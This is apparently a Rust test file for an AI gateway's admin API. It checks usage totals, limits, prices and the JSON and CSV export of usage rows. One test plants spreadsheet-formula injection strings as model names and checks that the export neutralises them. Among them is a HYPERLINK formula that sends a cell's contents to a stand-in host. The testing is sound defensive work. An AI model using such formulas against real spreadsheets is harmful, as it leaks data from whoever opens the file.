//! Tests of usage, limits and prices over the admin API.

use super::*;

/// Price of 7 tokens of input and 3 of output: 0.0000245.
const PRICES: &str = r#"
[[prices]]
model = "text"
input = "1.25"
output = "5.25"
[[quotas]]
key = "*"
requests_per_minute = 10
"#;

async fn used() -> (Harness, Value) {
    let harness = Harness::new(PRICES);
    let made = harness
        .create(json!({"name": "mobile", "scopes": ["text"]}))
        .await;
    assert_eq!(harness.ask(made["key"].as_str().unwrap()).await, 200);
    let accounting = harness.gateway.state.accounting.as_ref().unwrap();
    accounting.finish().await;
    (harness, made)
}

#[tokio::test]
async fn usage_is_summed_by_key_and_model() {
    let (harness, _) = used().await;
    let reply = harness.get("/admin/v1/usage?by=key,model").await;
    assert_eq!(
        reply.json(),
        json!({"usage": [{
            "key": "mobile", "model": "text",
            "requests": 1, "open": 0, "abandoned": 0, "unpriced": 0, "inexact": 0,
            "input": 7, "cache_read": 0, "cache_write": 0, "cache_write_1h": 0, "audio_input": 0, "image_input": 0,
            "output": 3, "reasoning": 0, "audio_output": 0, "image_output": 0, "pictures": 0,
            "cost": "0.0000245", "open_cost": "0.00", "abandoned_cost": "0.00",
        }]})
    );
    let none = harness.get("/admin/v1/usage?by=key&key=other").await;
    assert_eq!(none.json(), json!({"usage": []}));
}

#[tokio::test]
async fn rows_are_exported_in_two_formats_and_shown_alone() {
    let (harness, _) = used().await;
    let lines = harness.get("/admin/v1/usage/rows").await.body;
    assert_eq!(lines.lines().count(), 1);
    let row: Value = serde_json::from_str(&lines).unwrap();
    assert_eq!(row["state"], "closed");
    assert_eq!(row["cost"], "0.0000245");
    let id = row["request_id"].as_str().unwrap();
    let shown = harness.get(&format!("/admin/v1/requests/{id}")).await;
    assert_eq!(shown.json(), row);

    let csv = harness
        .get("/admin/v1/usage/rows?format=csv&key=mobile")
        .await;
    let lines: Vec<_> = csv.body.lines().collect();
    let (head, line) = (lines[0].split(','), lines[1].split(','));
    assert_eq!(lines.len(), 2);
    let columns: Vec<_> = head.zip(line).collect();
    assert!(columns.contains(&("request_id", id)));
    assert!(columns.contains(&("cost", "0.0000245")));
    assert!(columns.contains(&("output", "3")));
    let names: Vec<_> = columns.iter().map(|(name, _)| *name).collect();
    let fields: Vec<_> = row.as_object().unwrap().keys().collect();
    assert_eq!(names, fields, "the columns are the fields");

    let unknown = harness.get("/admin/v1/requests/req_0").await;
    assert_eq!((unknown.status, error(&unknown).1), (404, json!("id")));
}

#[tokio::test]
async fn limits_and_prices_are_shown() {
    let (harness, _) = used().await;
    let limits = harness.get("/admin/v1/limits").await.json();
    let limits = limits["limits"].as_array().unwrap();
    let quota = limits.iter().find(|limit| limit["scope"] == "mobile");
    let quota = quota.unwrap();
    assert_eq!(quota["in_use"], 0);
    assert_eq!(quota["requests"]["limit"], 10);
    assert_eq!(quota["requests"]["remaining"], 9);
    assert_eq!(quota["tokens"], Value::Null);
    assert_eq!(
        harness.get("/admin/v1/prices").await.json(),
        json!({
            "prices": [{"model": "text", "input": "1.25", "output": "5.25"}],
            "unknown_price": "free",
        })
    );
}

/// A client chooses the name of the model behind a pattern, and a spreadsheet must not execute it.
#[tokio::test]
async fn no_cell_of_a_csv_begins_like_a_formula() {
    let harness = Harness::new("");
    let models = [
        "=HYPERLINK(\"http://x/\"&A1,\"click\"),1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\u{ff1d}1",
        "gpt-5",
    ];
    let opened = |(number, model): (usize, &&str)| accounting::Opened {
        request_id: format!("req_{number:04}"),
        model: (*model).to_owned(),
        key: "-1".to_owned(),
        ..accounting::Opened::default()
    };
    let batch = accounting::Batch {
        entries: models
            .iter()
            .enumerate()
            .map(|row| opened(row).into())
            .collect(),
        shipped: None,
    };
    let accounting = harness.gateway.state.accounting.as_ref().unwrap();
    accounting.store.append(batch).await.unwrap();
    let exported = harness.get("/admin/v1/usage/rows?format=csv").await.body;
    let mut reader = csv::Reader::from_reader(exported.as_bytes());
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    let cells: Vec<_> = rows.iter().map(|row| &row[8]).collect();
    let [formulas @ .., plain] = &models;
    let quoted = formulas.iter().map(|model| format!("'{model}"));
    let owed: Vec<_> = quoted.chain([(*plain).to_owned()]).collect();
    assert_eq!(cells, owed);
    assert!(rows.iter().all(|row| &row[6] == "'-1"));
    // JSON is no spreadsheet.
    let lines = harness.get("/admin/v1/usage/rows").await.body;
    let first: Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
    assert_eq!(first["model"], models[0]);
}

#[tokio::test]
async fn an_export_of_several_pages_has_each_row_once() {
    let harness = Harness::new("");
    let opened = |number: i64| accounting::Opened {
        request_id: format!("req_{number:04}"),
        at_ms: 1_800_000_000_000 + number,
        key: "mobile".to_owned(),
        ..accounting::Opened::default()
    };
    let batch = accounting::Batch {
        entries: (0..1001).map(|number| opened(number).into()).collect(),
        shipped: None,
    };
    let accounting = harness.gateway.state.accounting.as_ref().unwrap();
    accounting.store.append(batch).await.unwrap();
    let csv = harness.get("/admin/v1/usage/rows?format=csv").await.body;
    let ids: Vec<_> = csv.lines().map(|line| &line[..8]).collect();
    assert_eq!(ids.len(), 1002);
    assert_eq!(
        (ids[0], ids[1], ids[1000], ids[1001]),
        ("request_", "req_0000", "req_0999", "req_1000")
    );
    let before = "2027-01-15T08:00:00.002Z";
    let lines = harness
        .get(&format!("/admin/v1/usage/rows?to={before}"))
        .await
        .body;
    assert_eq!(lines.lines().count(), 2, "{before} is the third");
}
